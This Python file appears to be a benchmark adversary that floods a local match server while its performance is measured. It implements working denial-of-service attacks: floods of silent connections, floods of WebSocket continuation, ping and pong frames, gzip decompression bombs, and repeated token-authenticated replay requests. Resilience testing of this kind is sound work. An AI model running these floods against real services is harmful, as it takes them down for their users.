"""`python -m bench.flooding KIND URL WIRE TABLE TOKEN MATCHES`: one stranger who means ill, for bench/floods.py.

It says when it begins. (It imports nothing of ours: loading that would take time from those who are measured.)
"""

import asyncio
import os
import secrets
import sys
import zlib
from collections.abc import Awaitable, Callable
from contextlib import suppress
from functools import cache
from itertools import count
from urllib.parse import urlsplit

FROM = ("127.0.0.2", 0)  # not the address of those who play
SILENT, AT_ONCE = 1100, 20
BLOCK = 4000  # frames that are sent together
BOMBS, BOMB = 4, 200_000_000  # bytes, unpacked
HELLO = b'{"do":"hello"}'
MASK = b"\0\0\0\0"
BEGUN, CONTINUED, PING, PONG = b"\x01\x80" + MASK, b"\x00\x80" + MASK, b"\x89\x80" + MASK, b"\x8a\x80" + MASK


class Target:
    def __init__(self, url: str, wire: str, table: str, token: str, matches: str) -> None:
        self.place = urlsplit(url)
        self.wire, self.table, self.token, self.matches = wire, table, token, int(matches)

    async def open(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        return await asyncio.open_connection(self.place.hostname, self.place.port, local_addr=FROM)

    def request(self, method: str, path: str, *headers: str) -> bytes:
        return "\r\n".join((f"{method} {path} HTTP/1.1", f"Host: {self.place.netloc}", *headers, "", "")).encode()


async def silent(target: Target) -> None:
    """Connections that say nothing, opened again when they are closed."""
    reader, writer = await target.open()
    try:
        await reader.read()
        await asyncio.sleep(0.5)
    finally:
        writer.close()


async def frames(target: Target, first: bytes, again: bytes) -> None:
    """A spectator's line, filled with frames that are no messages."""
    reader, writer = await target.open()
    path = f"/api/tables/{target.table}/socket?wire={target.wire}"
    key = "Sec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg=="
    writer.write(
        target.request("GET", path, "Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13", key)
    )
    await reader.readuntil(b"\r\n\r\n")
    writer.write(bytes((0x81, 0x80 | len(HELLO))) + MASK + HELLO + first)
    answers = asyncio.create_task(reader.read())
    while not answers.done():
        writer.write(again * BLOCK)
        await writer.drain()
    writer.close()


@cache
def packed_zeros() -> bytes:
    packer = zlib.compressobj(9, wbits=31)
    return packer.compress(bytes(BOMB)) + packer.flush()


async def bomb(target: Target) -> None:
    packed = packed_zeros()
    while True:
        reader, writer = await target.open()
        head = target.request("POST", "/api/matches", "Content-Encoding: gzip", f"Content-Length: {len(packed)}")
        writer.write(head + packed)
        await reader.readuntil(b"\r\n\r\n")
        writer.close()


async def replays(target: Target) -> None:
    for number in count(secrets.randbelow(target.matches)):
        reader, writer = await target.open()
        path = f"/api/tables/{target.table}/matches/{number % target.matches + 1}"
        writer.write(target.request("GET", path, f"Authorization: Bearer {target.token}", "Connection: close"))
        await reader.read()
        writer.close()


Flood = Callable[[Target], Awaitable[None]]
FLOODS: dict[str, tuple[int, Flood]] = {  # how many at once, and what each does
    "silent": (SILENT, silent),
    "continuations": (1, lambda target: frames(target, BEGUN, CONTINUED)),
    "pings": (1, lambda target: frames(target, b"", PING)),
    "pongs": (1, lambda target: frames(target, b"", PONG)),
    "bombs": (BOMBS, bomb),
    "replays": (AT_ONCE, replays),
}


async def flood(kind: str, target: Target) -> None:
    number, one = FLOODS[kind]

    async def always() -> None:
        while True:
            with suppress(OSError, asyncio.IncompleteReadError):
                await one(target)
            await asyncio.sleep(0.01)

    await asyncio.gather(*(always() for _ in range(number)))


if __name__ == "__main__":
    os.nice(10)  # it shares the machine with those whom it attacks
    kind, *details = sys.argv[1:]
    packed_zeros()
    print("begins", flush=True)
    asyncio.run(flood(kind, Target(*details)))
